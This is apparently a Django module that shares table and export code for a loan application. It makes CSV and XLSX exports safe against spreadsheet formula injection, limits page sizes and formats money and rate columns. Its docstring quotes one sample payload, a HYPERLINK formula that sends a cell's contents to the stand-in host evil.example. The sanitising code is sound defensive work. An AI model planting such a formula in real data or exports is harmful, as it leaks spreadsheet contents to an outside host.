"""Shared django-tables2 base for every list page, and the one place exports are made safe for spreadsheets.

Borrower names, loan numbers and notes come from imported files, so an export may carry a cell such as
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` that a spreadsheet would run as a formula (CSV injection,
OWASP). Every export goes through ``spreadsheet_safe``: a text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading ``'`` in CSV; in XLSX it is written as a text cell (never a formula
cell) with Excel's quote-prefix style. Numbers (a negative amount, "-12.50") are data, not formulas, and stay.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

import django_tables2 as tables
from django_tables2.export import ExportMixin, TableExport

from core.money import percent, points, usd

MAX_PER_PAGE = 200  # the most rows a list page shows (?per_page=)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def formula_like(value: Any) -> bool:
    """True for a text cell a spreadsheet could evaluate (a plain number such as "-12.50" is not one)."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.match(value)


def spreadsheet_safe(value: Any) -> Any:
    """A cell for CSV: formula-like text gets a leading apostrophe; everything else is returned as it is."""
    return "'" + value if formula_like(value) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [spreadsheet_safe(value) for value in row]


def xlsx_bytes(*, headers: Sequence[Any], rows: Iterable[Sequence[Any]], title: str = "Export") -> bytes:
    """An XLSX workbook whose text cells are all text: formula-like values keep their characters but are typed
    as strings with the quote prefix, so Excel and LibreOffice show them and never evaluate them."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = re.sub(r"[\\/*?:\[\]]", "-", title)[:31] or "Export"
    sheet.append(list(headers))
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    for row in rows:
        sheet.append(list(row))
    for line in sheet.iter_rows():
        for cell in line:
            if cell.data_type == "f" or formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class SafeTableExport(TableExport):
    """django-tables2's export with formula-like cells neutralised (CSV: prefixed; XLSX: text cells)."""

    def export(self) -> Any:
        if self.format == self.XLSX:
            return xlsx_bytes(headers=self.dataset.headers or [], rows=self.dataset, title=self.dataset.title or "")
        safe = self.dataset.__class__(*(safe_row(row) for row in self.dataset), headers=self.dataset.headers)
        safe.title = self.dataset.title
        return safe.export(self.format)


class SafeExportMixin(ExportMixin):
    export_class = SafeTableExport


def per_page_or_default(value: object, default: int) -> int:
    """The page size asked for in ?per_page=, between 1 and MAX_PER_PAGE; anything else (0, -5, "all") is the
    default, so a bad value never shows a one-row page."""
    try:
        number = int(str(value))
    except (TypeError, ValueError):
        return default
    if number < 1:
        return default
    return min(number, MAX_PER_PAGE)


class BaseTable(tables.Table):
    class Meta:
        attrs = {"class": "table"}
        template_name = "tables/table.html"
        per_page = 50

    def paginate(self, *args, per_page=None, **kwargs):  # type: ignore[no-untyped-def]
        if per_page is not None:
            per_page = per_page_or_default(per_page, self._meta.per_page)
        return super().paginate(*args, per_page=per_page, **kwargs)


def rate_html(value: Decimal) -> str:
    return percent(value)


class FormattedColumn(tables.Column):
    """A right-aligned number: formatted on screen, the plain Decimal in exports (``kind`` sets the unit in the
    CSV header and the number format in XLSX, see core/exports.py)."""

    formatter = staticmethod(str)
    kind = "text"

    def __init__(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        kwargs.setdefault("attrs", {"td": {"class": "num"}, "th": {"class": "num"}})
        super().__init__(*args, **kwargs)

    def render(self, value):  # type: ignore[no-untyped-def]
        return self.formatter(value)

    def value(self, value):  # type: ignore[no-untyped-def]
        return value


class MoneyColumn(FormattedColumn):
    """Dollars on screen ("$1,234.56", "−$12.00")."""

    formatter = staticmethod(usd)
    kind = "money"


class RateColumn(FormattedColumn):
    """Percent with three decimals on screen ("6.125 %")."""

    formatter = staticmethod(percent)
    kind = "rate"


class PointsColumn(FormattedColumn):
    """A spread or threshold in percentage points ("0.750 pts")."""

    formatter = staticmethod(points)
    kind = "points"


class MonthsColumn(FormattedColumn):
    """A whole number of months ("20"); "—" when there is none."""

    kind = "months"

    def render(self, value):  # type: ignore[no-untyped-def]
        return "—" if value is None else str(value)
